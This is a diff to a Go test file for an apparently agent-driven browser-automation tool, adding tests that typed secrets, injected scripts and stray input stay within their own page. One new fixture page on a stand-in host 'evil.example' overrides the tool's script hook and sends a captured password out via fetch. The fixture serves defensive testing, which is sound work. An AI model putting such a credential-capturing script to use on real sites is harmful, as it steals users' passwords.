@@ -10,6 +10,7 @@ import (
 	"slices"
 	"strconv"
 	"strings"
+	"sync"
 	"testing"
 	"time"
 
@@ -35,7 +36,7 @@ func TestSecretsKeepTheSite(t *testing.T) {
 	s.must(act.Step{Do: act.DoOpen, URL: s.url("shop", "/login") + "#there"}) // the same document
 	s.must(act.Step{Do: act.DoClick, Ref: away})
 	s.must(act.Step{Do: act.DoClick, Ref: window})
-	s.must(act.Step{Do: act.DoSwitch, Text: "t2"})
+	s.must(act.Step{Do: act.DoSwitch, Text: s.window()})
 	s.wait(func() bool { // until its document was decided about
 		return strings.Contains(s.must(act.Step{Do: act.DoWait, MS: 20}).Line, "a secret was typed") || s.heard("evil.example") > 0
 	})
@@ -45,6 +46,38 @@ func TestSecretsKeepTheSite(t *testing.T) {
 	_, _ = s.do(act.Step{Do: act.DoSwitch, Text: "t1"})
 	if l := s.goTo(s.url("other", "/else")); !strings.Contains(l, "elsewhere") {
 		t.Errorf("no step leaves the site:\n%s", l)
+	}
+}
+
+// TestScriptsStayInTheirDocument: a script for a document that is left runs in no other one before the tab
+// hears of that, also where the next one has worlds of the same numbers and functions of the same names
+// (BR28, BR-A27).
+func TestScriptsStayInTheirDocument(t *testing.T) {
+	s := open(t)
+	ready, let := make(chan struct{}), make(chan struct{})
+	s.page("/login", `<!doctype html><title>l</title><input type=password aria-label=P><a href="http://evil.example:PORT/next">Next</a>`)
+	s.page("/next", `<!doctype html><body><p>next<script>
+globalThis.belljar = { insert: (...a) => { fetch("/got?" + a[2]); return true } };
+for (let i = 0; i < 20; i++) { const f = document.createElement("iframe"); document.body.append(f); f.contentWindow.belljar = belljar }
+fetch("/ready")</script>`)
+	s.mux.HandleFunc("/ready", func(http.ResponseWriter, *http.Request) { close(ready) })
+	s.eval("1") // a world more, so that ours have the numbers of worlds of the next page
+	l := s.goTo(s.url("shop", "/login"))
+	field, next := s.ref(l, "password"), s.ref(l, `link "Next"`)
+	s.must(act.Step{Do: act.DoClick, Ref: field})
+	s.seat.HoldNavigations(let)
+	var all sync.WaitGroup
+	all.Go(func() { _, _ = s.do(act.Step{Do: act.DoClick, Ref: next}) })
+	<-ready
+	ran := s.seat.BeginScript(s.ctx(), field, "hunter2")
+	close(let)
+	if err := ran(); err == nil {
+		t.Error("the script has run, and its document is gone")
+	}
+	all.Wait()
+	s.until(act.LookRequest{}, "next")
+	if n := s.heard("hunter2"); n > 0 {
+		t.Errorf("the next page heard of it %d times", n)
 	}
 }
 
@@ -144,21 +177,21 @@ document.querySelector("button").addEventListener("mousemove", () => ms === "now
 	}
 }
 
-// TestInputOfNoStep: input that comes to a document outside of a step, as what is late of a step does in the
-// next document, reaches nothing in it (BR10, BR-A5).
+// TestInputOfNoStep: input that no step sends now, such as the late input of a step whose page was left, does
+// not reach the page (BR10).
 func TestInputOfNoStep(t *testing.T) {
 	s := open(t)
 	s.page("/", `<!doctype html><title>none</title><input aria-label=Q autofocus style="position:absolute;inset:0;width:300px;height:200px"><script>
 for (const k of ["pointerdown", "mousedown", "click", "keydown", "input"]) addEventListener(k, (e) => { document.title += " " + k }, true);
 </script>`)
 	l := s.goTo(s.url("site", "/"))
-	s.seat.Strike(100, 100)
+	s.seat.SendInput(100, 100)
 	if got := s.eval("document.title"); got != `"none"` {
 		t.Errorf("before the first step, the page says %s", got)
 	}
 	s.must(act.Step{Do: act.DoFill, Ref: s.ref(l, `text "Q"`), Text: "x"})
 	was := s.eval("document.title")
-	s.seat.Strike(100, 100)
+	s.seat.SendInput(100, 100)
 	if got := s.eval("document.title"); got != was || !strings.Contains(was, "input") {
 		t.Errorf("after a step, the page says %s, and it said %s", got, was)
 	}
